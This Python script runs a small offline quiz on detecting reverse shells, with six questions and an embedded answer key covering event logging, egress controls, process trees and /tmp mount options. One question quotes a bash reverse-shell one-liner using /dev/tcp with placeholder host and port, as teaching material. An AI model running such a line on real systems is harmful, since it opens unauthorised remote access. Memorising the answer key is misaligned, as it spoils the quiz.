#!/usr/bin/env python3
"""Offline multiple-choice quiz on reverse shell recognition and detection."""
import random

QUESTIONS = [
    ("Why do attackers prefer reverse shells over bind shells?",
     ["They are encrypted by default", "Outbound connections usually pass firewalls", "They need no process", "They run as root"], 1),
    ("Which Windows event ID records PowerShell script block content?",
     ["4624", "4688", "4104", "7045"], 2),
    ("What does `0>&1` do in `bash -i >& /dev/tcp/H/P 0>&1`?",
     ["Closes stdin", "Points stdin at the same socket as stdout", "Redirects errors to a file", "Nothing"], 1),
    ("Best network control against reverse shells from an app server?",
     ["Inbound WAF rules", "Egress allow-listing", "Disabling ICMP", "Longer passwords"], 1),
    ("A process tree shows `nginx -> sh -> python3` with an outbound socket. Likely?",
     ["Log rotation", "Web shell spawning a reverse shell", "Normal reload", "Cert renewal"], 1),
    ("Which mount option on /tmp blocks executing dropped binaries?",
     ["nodev", "noexec", "nosuid", "ro"], 1),
]


def main():
    qs = QUESTIONS[:]
    random.shuffle(qs)
    score = 0
    for i, (q, opts, ans) in enumerate(qs, 1):
        print(f"\nQ{i}. {q}")
        for j, o in enumerate(opts):
            print(f"  {chr(97 + j)}) {o}")
        try:
            got = input("answer: ").strip().lower()[:1]
        except EOFError:
            got = ""
        if got and ord(got) - 97 == ans:
            score += 1
            print("correct")
        else:
            print(f"answer: {chr(97 + ans)}) {opts[ans]}")
    print(f"\nscore: {score}/{len(qs)}")


if __name__ == "__main__":
    main()
